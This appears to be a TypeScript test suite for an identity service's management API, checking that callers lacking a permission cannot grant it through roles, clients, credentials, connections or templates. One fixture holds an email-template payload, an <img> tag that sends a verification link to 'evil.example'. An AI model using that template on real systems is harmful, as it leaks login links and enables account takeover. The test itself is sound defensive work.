/** Nobody gives what they do not have: every management write, by somebody who lacks one permission and tries to gain it. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { managementPermissions } from '../../src/domain/api/permission.ts';
import { agent, type Json, REDIRECT, signIn, type TenantHandle, tokenRequest, world } from '../kit/index.ts';
import { operations } from '../kit/operations.ts';

const w = await world();
const t = await w.tenant();
const writes = (await operations(w)).filter(({ method }) => method !== 'GET' && method !== 'DELETE');

/** What the caller lacks, and everybody below has something to do with. */
const LACKED = 'read:logs';
const CATALOGUE = managementPermissions().map(({ value }) => value);
let made = 0;
const fresh = (word: string) => {
  made += 1;
  return `${word}${made}`;
};
const [management] = await t.managementGrants([LACKED]);
const { api } = management!;
const roleOf = (values: string[]) =>
  t.api('POST', '/role', { name: fresh('r'), permissions: values.map((value) => ({ api, value })) });
const powerful = await roleOf([LACKED]);
const harmless = await roleOf(['read:users']);
const team = await t.api('POST', '/team', { name: 'Team' });

const path = (collection: string, { id }: Json, rest = '') => `/${collection}/${id}${rest}`;

/** Somebody who logs in with an address and has no password yet. */
async function person() {
  const email = `${fresh('p')}@example.com`;
  const user = await t.api('POST', '/user', { email });
  const credential = await t.api('POST', '/credentials', { user: user.id, connection: t.connection, email });
  return { id: user.id as string, credential: credential.id as string };
}

/** An administrator: holds the role, account-wide or in a team. */
async function boss(where: 'account' | 'team' = 'account') {
  const user = await person();
  if (where === 'team') await t.api('POST', `/team/${team.id}/member`, { users: [user.id], roles: [powerful.id] });
  else await t.api('POST', `/role/${powerful.id}/users`, { users: [user.id] });
  return user;
}
const federated = (fields: object = {}) =>
  t.api('POST', '/connection', { connection_name: fresh('c'), connection_type: 'oidc', ...fields });
const jwks = {
  keys: [
    {
      kty: 'EC',
      crv: 'P-256',
      x: 'f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU',
      y: 'x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0',
    },
  ],
};

/** Whoever is told of logins reads the log. */
const EVENT = 'auth.login';
const subscription = (events: string[]) => ({ events, channel: 'email', config: { recipients: ['me@example.com'] } });
const subscriptionOf = async (events: string[]) =>
  path('notificationsubscription', await t.api('POST', '/notificationsubscription', subscription(events)));

type Call = { path: string; body?: unknown; ndjson?: string };
/** A write that gives `lacks`, made anew for every caller; `within` is the nearest one that gives nothing more. */
type Attempt = { lacks?: string; gives(): Promise<Call>; within?(): Promise<Call> };
type Row = { nothing: string } | Record<string, Attempt>;

const client = (fields: object = {}) => t.client({ callbacks: [], grants: [{ api, scope: [LACKED] }], ...fields });
const app = (fields: object = {}) => t.client({ ...fields });
const changed = (row: () => Promise<Json>, body: object, within: object = { name: 'x' }): Attempt => ({
  gives: async () => ({ path: path('client', await row()), body }),
  within: async () => ({ path: path('client', await row()), body: within }),
});

/** Opens its reader's account to whoever is asked for the picture. */
const MAIL = {
  template: 'verify_email',
  subject: 'x',
  html: '<img src="https://evil.example/?{{ link }}">{{ link }}',
  text: '{{ link }}',
};
let mail: Json | undefined;

/** By operation. What is no row here has no test: a new write fails the first test below. */
const TABLE: Record<string, Row> = {
  'client/create': {
    'with the grant': {
      gives: async () => ({ path: '/client', body: { name: 'x', grants: [{ api, scope: [LACKED] }] } }),
      within: async () => ({ path: '/client', body: { name: 'x', grants: [{ api, scope: ['read:users'] }] } }),
    },
    'that administrators log in to': {
      gives: async () => ({ path: '/client', body: { name: 'x', callbacks: [REDIRECT] } }),
      within: async () => ({ path: '/client', body: { name: 'x', callbacks: [REDIRECT], is_first_party: false } }),
    },
  },
  'client/update': {
    'the grant': changed(
      () => client({ grants: [] }),
      { grants: [{ api, scope: [LACKED, 'read:users'] }] },
      { grants: [{ api, scope: ['read:users'] }] },
    ),
    'keys of one that has it': changed(client, { jwks }),
    'an address of keys': changed(client, { jwks_uri: 'https://keys.example.com/jwks' }),
    'how it authenticates': changed(client, { token_endpoint_auth_method: 'client_secret_post' }),
    'where it is sent back to': changed(client, { callbacks: [REDIRECT], is_first_party: false }),
    'its grant types': changed(client, { grant_types: ['client_credentials', 'authorization_code'] }),
    'a weaker proof': changed(() => client({ dpop_bound_access_tokens: true }), { dpop_bound_access_tokens: false }),
    'what was there already': {
      ...changed(app, { callbacks: [`${REDIRECT}/x`] }),
      within: async () => ({
        path: path('client', await app()),
        body: { callbacks: [REDIRECT], is_first_party: true },
      }),
    },
    'that administrators log in to': changed(
      () => app({ callbacks: [] }),
      { callbacks: [REDIRECT] },
      { callbacks: [] },
    ),
    promotion: changed(() => app({ is_first_party: false }), { is_first_party: true }, { is_first_party: false }),
    'promotion of one without callbacks': changed(() => app({ is_first_party: false, callbacks: [] }), {
      is_first_party: true,
    }),
  },
  'client/rotateSecret': {
    'of one that has the grant': {
      gives: async () => ({ path: path('client', await client(), '/rotate-secret') }),
      within: async () => ({ path: path('client', await client({ grants: [] }), '/rotate-secret') }),
    },
  },
  'client/createInitialAccessToken': {
    nothing: 'who registers with it is a guest, whom no grant names and no administrator administers through',
  },
  'role/create': {
    '': {
      gives: async () => ({ path: '/role', body: { name: fresh('r'), permissions: [{ api, value: LACKED }] } }),
      within: async () => ({ path: '/role', body: { name: fresh('r'), permissions: [{ api, value: 'read:users' }] } }),
    },
  },
  'role/update': {
    '': {
      gives: async () => ({
        path: path('role', await roleOf(['read:users'])),
        body: { permissions: [{ api, value: LACKED }] },
      }),
      within: async () => ({
        path: path('role', powerful),
        body: { permissions: [{ api, value: LACKED }], description: fresh('') },
      }),
    },
  },
  'role/assign_users': {
    '': {
      gives: async () => ({ path: path('role', powerful, '/users'), body: { users: [(await person()).id] } }),
      within: async () => ({ path: path('role', harmless, '/users'), body: { users: [(await person()).id] } }),
    },
  },
  'rolemember/create': {
    '': {
      gives: async () => ({ path: '/rolemember', body: { role: powerful.id, users: [(await person()).id] } }),
      within: async () => ({ path: '/rolemember', body: { role: harmless.id, users: [(await person()).id] } }),
    },
  },
  'team/addMembers': {
    '': {
      gives: async () => ({
        path: path('team', team, '/member'),
        body: { users: [(await person()).id], roles: [powerful.id] },
      }),
      within: async () => ({ path: path('team', team, '/member'), body: { users: [(await person()).id] } }),
    },
  },
  'teammember/create': {
    '': {
      gives: async () => ({
        path: '/teammember',
        body: { team: team.id, users: [(await person()).id], roles: [powerful.id] },
      }),
      within: async () => ({
        path: '/teammember',
        body: { team: team.id, users: [(await person()).id], roles: [harmless.id] },
      }),
    },
  },
  'team/invite': {
    '': {
      gives: async () => ({
        path: path('team', team, '/invite'),
        body: { email: `${fresh('i')}@example.com`, roles: [powerful.id] },
      }),
      within: async () => ({
        path: path('team', team, '/invite'),
        body: { email: `${fresh('i')}@example.com`, roles: [harmless.id] },
      }),
    },
  },
  'team/create': { nothing: 'an empty team' },
  'team/update': { nothing: 'what it is called' },
  'user/create': { nothing: 'a user without a role' },
  'user/update': {
    'the address of an administrator': {
      gives: async () => ({ path: path('user', await boss()), body: { email: `${fresh('e')}@example.com` } }),
      within: async () => ({ path: path('user', await person()), body: { email: `${fresh('e')}@example.com` } }),
    },
    'of one by a team': {
      gives: async () => ({ path: path('user', await boss('team')), body: { email: `${fresh('e')}@example.com` } }),
    },
    'that it is verified': {
      gives: async () => ({ path: path('user', await boss()), body: { email_verified: true } }),
      within: async () => ({ path: path('user', await boss()), body: { name: 'Boss', email_verified: false } }),
    },
    'the phone': {
      gives: async () => ({ path: path('user', await boss()), body: { phone: '+34600000000', phone_verified: true } }),
    },
    'that one who was suspended is let in again': {
      gives: async () => ({ path: path('user', await suspended(await boss())), body: { suspended: false } }),
      within: async () => ({ path: path('user', await boss()), body: { suspended: true } }),
    },
  },
  'user/changeEmail': {
    '': {
      gives: async () => ({
        path: path('user', await boss(), '/change-email'),
        body: { new_email: `${fresh('n')}@example.com` },
      }),
      within: async () => ({
        path: path('user', await person(), '/change-email'),
        body: { new_email: `${fresh('n')}@example.com` },
      }),
    },
  },
  'user/verifyEmailStart': { nothing: 'the link is mailed to the address that it is about' },
  'user/import': {
    '': {
      lacks: 'create:credentials',
      gives: async () => ({ path: '/user/import', ndjson: JSON.stringify({ email: `${fresh('u')}@example.com` }) }),
    },
  },
  'credentials/create': {
    '': {
      gives: async () => ({ path: '/credentials', body: credential(await boss()) }),
      within: async () => ({ path: '/credentials', body: credential(await person()) }),
    },
  },
  'credentials/update': {
    '': {
      gives: async () => ({ path: `/credentials/${(await boss()).credential}`, body: { username: fresh('n') } }),
      within: async () => ({ path: `/credentials/${(await person()).credential}`, body: { username: fresh('n') } }),
    },
  },
  'credentials/setPassword': {
    '': {
      gives: async () => ({
        path: `/credentials/${(await boss()).credential}/set-password`,
        body: { password: 'Another-horse-2' },
      }),
      within: async () => ({
        path: `/credentials/${(await person()).credential}/set-password`,
        body: { password: 'Another-horse-2' },
      }),
    },
  },
  'identity/create': {
    '': {
      gives: async () => ({ path: '/identity', body: await identity(await boss()) }),
      within: async () => ({ path: '/identity', body: await identity(await person()) }),
    },
  },
  'connection/create': {
    'that says who somebody is': {
      gives: async () => ({ path: '/connection', body: { connection_name: fresh('c'), connection_type: 'oidc' } }),
      within: async () => ({ path: '/connection', body: { connection_name: fresh('c'), connection_type: 'database' } }),
    },
  },
  'connection/update': {
    'whom it believes': {
      gives: async () => ({ path: path('connection', await federated()), body: { issuer: 'https://idp.example.com' } }),
      within: async () => ({ path: path('connection', await federated()), body: { connection_name: fresh('c') } }),
    },
  },
  'action/create': {
    'which runs in every login': {
      gives: async () => ({ path: '/action', body: { name: 'x', trigger: 'post-login', code: '' } }),
    },
  },
  'api/create': { nothing: 'the management API’s name is reserved' },
  'api/update': { nothing: 'what the management API lists belongs to the system' },
  'account/create': { nothing: 'what it gives is in the account that it makes, and nobody else is in there' },
  'account/update': {
    nothing: 'the management API is never the default audience, and no setting is about who may what',
  },
  'account/setLogo': { nothing: 'a picture that pages show' },
  'account/rotateKeys': { nothing: 'nobody sees a private key' },
  'account/revokeKey': { nothing: 'nobody sees a private key' },
  'mailtemplate/preview': { nothing: 'a picture of a mail that is not sent' },
  'mailtemplate/create': {
    'that administrators read': {
      gives: async () => ({ path: '/mailtemplate', body: { ...MAIL, locale: 'en' } }),
    },
  },
  'mailtemplate/update': {
    'that administrators read': {
      gives: async () => {
        mail ??= await t.api('POST', '/mailtemplate', { ...MAIL, locale: 'es' });
        return { path: path('mailtemplate', mail!), body: { subject: 'Hi' } };
      },
    },
  },
  'notificationsubscription/create': {
    'what is told of what they may not read': {
      gives: async () => ({ path: '/notificationsubscription', body: subscription([EVENT]) }),
      within: async () => ({ path: '/notificationsubscription', body: subscription(['user.created']) }),
    },
  },
  'notificationsubscription/update': {
    'what is told of what they may not read': {
      gives: async () => ({ path: await subscriptionOf(['user.created']), body: { events: [EVENT] } }),
      within: async () => ({ path: await subscriptionOf([EVENT]), body: { events: ['user.created'] } }),
    },
    'where it is told': {
      gives: async () => ({
        path: await subscriptionOf([EVENT]),
        body: { config: { recipients: ['they@example.com'] } },
      }),
      within: async () => ({ path: await subscriptionOf([EVENT]), body: { metadata: { of: 'ops' } } }),
    },
  },
  'notificationsubscription/test': { nothing: 'what is sent says that it is a test' },
  'notificationsubscription/redeliver': { nothing: 'it goes to whom it was for, who still listens' },
  'customdomain/create': {
    'where people log in, and their links lead': {
      gives: async () => ({ path: '/customdomain', body: { domain: `${fresh('d')}.example.com` } }),
    },
  },
  'customdomain/retry': {
    '': { gives: async () => ({ path: path('customdomain', await domain(), '/retry') }) },
  },
};

const suspended = async (user: { id: string }) => {
  await t.api('POST', path('user', user), { suspended: true });
  return user;
};
const domain = () => t.api('POST', '/customdomain', { domain: `${fresh('d')}.example.com` });

const credential = ({ id }: { id: string }) => ({
  user: id,
  connection: t.connection,
  username: fresh('n'),
  password: 'Another-horse-2',
});
let upstream: Json;
const identity = async ({ id }: { id: string }) => {
  upstream ??= await federated();
  return { account: t.id, connection: upstream.id, user: id, identity_id: fresh('id'), profile_data: null };
};

test('every management write says what it gives', () => {
  assert.deepEqual(writes.map(({ id }) => id).sort(), Object.keys(TABLE).sort());
});

const send = (at: TenantHandle, token: string, { path, body, ndjson }: Call) =>
  w.send(`${at.origin}${path}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, ...(ndjson && { 'content-type': 'application/x-ndjson' }) },
    ...(ndjson ? { body: ndjson } : body !== undefined && { json: body }),
  });

const without = (lacked: string, all = CATALOGUE) => all.filter((value) => value !== lacked);

/** A person with a role of these permissions, in an app of the tenant's own. */
async function personWith(permissions: string[]): Promise<string> {
  const user = await t.user();
  const role = await roleOf(permissions);
  await t.api('POST', `/role/${role.id}/users`, { users: [user.id] });
  const client = await t.client();
  const query = new URLSearchParams({
    response_type: 'code',
    client_id: client.client_id,
    redirect_uri: REDIRECT,
    audience: t.audience,
    scope: permissions.join(' '),
  });
  const code = (await signIn(agent(), `${t.origin}/authorize?${query}`, user)).searchParams.get('code')!;
  const { body } = await tokenRequest(t, client, { grant_type: 'authorization_code', code, redirect_uri: REDIRECT });
  return body.access_token as string;
}

const CALLERS: Record<string, (permissions: string[]) => Promise<string>> = {
  'a machine': (permissions) => t.token(permissions.join(' ')),
  'a person': personWith,
  'the operator': (permissions) => w.operatorToken(permissions.join(' ')),
};
const tokens = new Map<string, Promise<string>>();
function tokenOf(who: string, lacked: string): Promise<string> {
  const key = `${who} without ${lacked}`;
  if (!tokens.has(key)) tokens.set(key, CALLERS[who]!(without(lacked)));
  return tokens.get(key)!;
}

test('whoever lacks one permission gives it to nobody, and whoever has it does', async () => {
  const callers = Object.keys(CALLERS);
  const attempts = Object.entries(TABLE).flatMap(([id, row]) =>
    'nothing' in row ? [] : Object.entries(row).map(([what, attempt]) => [`${id} ${what}`, attempt] as const),
  );
  for (const [n, [about, { lacks = LACKED, gives, within }]] of attempts.entries()) {
    const giving = await gives();
    for (const who of callers) {
      const refused = await send(t, await tokenOf(who, lacks), giving);
      assert.deepEqual(
        [refused.status, refused.body.code, refused.body.details?.missing],
        [403, 'insufficient_scope', lacks],
        `${about} by ${who}: ${refused.text}`,
      );
      assert.ok(refused.body.message.includes(lacks));
    }
    // Each of them in turn.
    const who = callers[n % callers.length]!;
    for (const [lacked, call] of [
      [lacks, await within?.()],
      ['nothing', giving],
    ] as const) {
      if (!call) continue;
      const answer = await send(t, await tokenOf(who, lacked), call);
      assert.ok(answer.status < 300, `${about} by ${who} without ${lacked}: ${answer.status} ${answer.text}`);
    }
  }
});

test('what is taken away stays away, whoever writes what was there at the same moment', async () => {
  const token = await tokenOf('a machine', LACKED);
  const permissions = [{ api, value: LACKED }];
  const grants = [{ api, scope: [LACKED] }];
  const rows: [string, () => Promise<Json>, held: object, taken: object][] = [
    ['role', () => roleOf([LACKED]), { permissions }, { permissions: [] }],
    ['client', client, { grants }, { grants: [] }],
    ['client', app, { is_first_party: true, callbacks: [REDIRECT] }, { is_first_party: false }],
    ['user', boss, { suspended: false }, { suspended: true }],
  ];
  const race = async ([collection, make, held, taken]: (typeof rows)[number]) => {
    const at = path(collection, await make());
    const tried = (method: string, body?: object) => w.call(t.origin, token, method, at, body);
    const again = async () => {
      for (let n = 0; n < 6; n += 1) {
        const { status, text } = await tried('POST', held);
        assert.ok([200, 403, 409].includes(status), text);
      }
    };
    const [answer] = await Promise.all([t.call('POST', at, taken), again(), again(), again()]);
    assert.equal(answer.status, 200, answer.text);
    const left = (await tried('GET')).body;
    for (const [field, value] of Object.entries(taken)) assert.deepEqual(left[field], value, `${collection} ${field}`);
  };
  for (let n = 0; n < 3; n += 1) await Promise.all(rows.map(race));
});

test('the secret of a client is shown to who has what the client is granted', async () => {
  const { id } = await client();
  const { id: other } = await client({ grants: [{ api, scope: ['read:users'] }] });
  for (const [lacked, shown] of [
    [LACKED, false],
    ['read:api', true],
  ] as const) {
    const token = await t.token(without(lacked).join(' '));
    const secretOf = (row: Json) => row.client_secret !== '********';
    const get = (to: string) => w.call(t.origin, token, 'GET', to);
    assert.equal(secretOf((await get(`/client/${id}`)).body), shown, 'get');
    assert.equal(secretOf((await get(`/client/${other}`)).body), true, 'another’s');
    const listed = (await get('/client?pageSize=100')).body.results;
    assert.equal(secretOf(listed.find((row: Json) => row.id === id)), shown, 'list');
    assert.equal(secretOf(listed.find((row: Json) => row.id === other)), true, 'list');
    const updated = await w.call(t.origin, token, 'POST', `/client/${id}`, { name: 'Renamed' });
    assert.equal(secretOf(updated.body), shown, 'update');
  }
});

test('a password hash of an administrator is exported to who may do what that one may', async () => {
  const all = [await boss(), await boss('team'), await person()];
  for (const { credential } of all)
    await t.api('POST', `/credentials/${credential}/set-password`, { password: 'Another-horse-2' });
  const exported = async (lacked: string) => {
    const token = await t.token(without(lacked).join(' '));
    const { text } = await w.send(`${t.origin}/user/export`, { headers: { authorization: `Bearer ${token}` } });
    const rows = text
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    return all.map(({ id }) => rows.find((row) => row.id === id).password_hash.startsWith('$'));
  };
  assert.deepEqual(await exported(LACKED), [false, false, true]);
  assert.deepEqual(await exported('nothing'), [true, true, true]);
});

test('a user changes the own address, whatever the token may do besides', async () => {
  const user = await t.user();
  await t.api('POST', `/role/${powerful.id}/users`, { users: [user.id] });
  const client = await t.client();
  const query = new URLSearchParams({
    response_type: 'code',
    client_id: client.client_id,
    redirect_uri: REDIRECT,
    scope: 'openid',
  });
  const code = (await signIn(agent(), `${t.origin}/authorize?${query}`, user)).searchParams.get('code')!;
  const { body } = await tokenRequest(t, client, { grant_type: 'authorization_code', code, redirect_uri: REDIRECT });
  const change = (id: string) =>
    w.call(t.origin, body.access_token, 'POST', `/user/${id}/change-email`, { new_email: `${fresh('o')}@example.com` });
  assert.equal((await change(user.id)).status, 200);
  assert.equal((await change((await person()).id)).status, 403);
});
